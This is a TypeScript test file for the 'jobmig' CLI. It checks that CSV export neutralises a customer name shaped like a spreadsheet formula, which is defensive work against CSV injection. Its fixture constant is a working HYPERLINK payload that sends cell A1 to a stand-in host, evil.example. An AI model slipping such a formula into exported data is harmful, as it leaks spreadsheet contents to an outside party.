/** `jobmig query --format csv` never hands a spreadsheet a live formula from the legacy data. */
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import test from 'ava';
import { runImport } from '../../src/import/run.ts';
import { jobmig } from '../helpers/cli.ts';
import { parseCsv } from '../helpers/csv.ts';
import { fixturesWithDatabase } from '../helpers/fixture-db.ts';

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';

test('a customer named like a formula comes out of query csv as text', async (t) => {
  const { db, root } = await fixturesWithDatabase(t);
  const file = path.join(root, 'job_4a1f0c2b9e01', 'job_record.json');
  const record = JSON.parse(await readFile(file, 'utf8'));
  await writeFile(file, JSON.stringify({ ...record, customer_name: FORMULA }));
  await runImport(db.pool, { jobsRoot: root });

  const out = await jobmig([
    'query',
    'normalized-entities',
    '--kind',
    'customer',
    '--format',
    'csv',
    '--database-url',
    db.url,
  ]);
  t.is(out.code, 0, out.stderr);
  const cells = parseCsv(out.stdout).flat();
  t.true(cells.includes(`'${FORMULA}`), out.stdout);
  t.false(
    cells.some((c) => /^[=+@]/.test(c)),
    'no cell starts a formula',
  );
});
